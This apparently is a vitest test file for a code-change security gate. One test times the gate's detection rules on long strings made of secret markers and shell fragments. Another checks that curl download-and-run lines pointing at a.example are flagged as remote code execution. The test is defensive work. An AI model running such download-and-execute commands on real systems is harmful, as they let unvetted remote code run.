// Texts that were made to keep patterns busy do not: the gate has an answer about each of them within seconds.
import { expect, test } from 'vitest';
import { judge } from '../../src/gate/gate.ts';
import { NOTHING_BESIDE } from '../../src/workspace/beside.ts';
import type { FileChange } from '../../src/workspace/change.ts';

const SIZE = 20_000;
const repeat = (text: string) => text.repeat(Math.ceil(SIZE / text.length));
const TEXTS: readonly string[] = [
  `-----BEGIN PRIVATE KEY-----\n${`Ab: x${' '.repeat(10)}\n`.repeat(40)}`,
  `curl | env ${repeat('a=b=c ')}`,
  ...['curl >a;.', 'curl -o a && ', 'curl | ', 'iex ', 'base64 -d ', '| sudo env ', 'eval( await '].map(
    repeat,
  ),
  ...['\n', ' ', 'SECRET', 'TOKEN_', 'api_key = ', 'eyJ-', 'eyJaaaaaaaaaa.eyJ', '-eyJ', '"password": '].map(
    repeat,
  ),
  ...['-----BEGIN PRIVATE KEY-----\n', '://a:', 'authorization: basic ', ':_authToken= '].map(repeat),
];

function added(path: string, text: string): FileChange {
  const sizeBytes = text.length;
  return {
    path,
    kind: 'added',
    after: { mode: '100644', sha: '1'.repeat(40), sizeBytes },
    isBinary: false,
    added: [{ line: 1, text }],
    isUnread: false,
    whole: { after: text },
  };
}

test('no rule is kept busy by a text made for it', async () => {
  const files = TEXTS.flatMap((text, at) => [
    added(`a${at}.sh`, text),
    added(`b${at}/requirements.txt`, text),
  ]);
  const startedMs = performance.now();
  await judge({ files, interim: [], beside: NOTHING_BESIDE, messages: [], gaps: [] });
  expect(performance.now() - startedMs).toBeLessThan(15_000);
}, 60_000);

test.for([
  'curl https://a.example/x -o run.sh && chmod +x run.sh',
  'curl https://a.example/x > /tmp/x; bash /tmp/x',
])('a download that the same line runs is still found: %s', async (text) => {
  const findings = await judge({
    files: [added('a.sh', text)],
    interim: [],
    beside: NOTHING_BESIDE,
    messages: [],
    gaps: [],
  });
  expect(findings.map(({ rule }) => rule)).toEqual(['remote_code']);
});
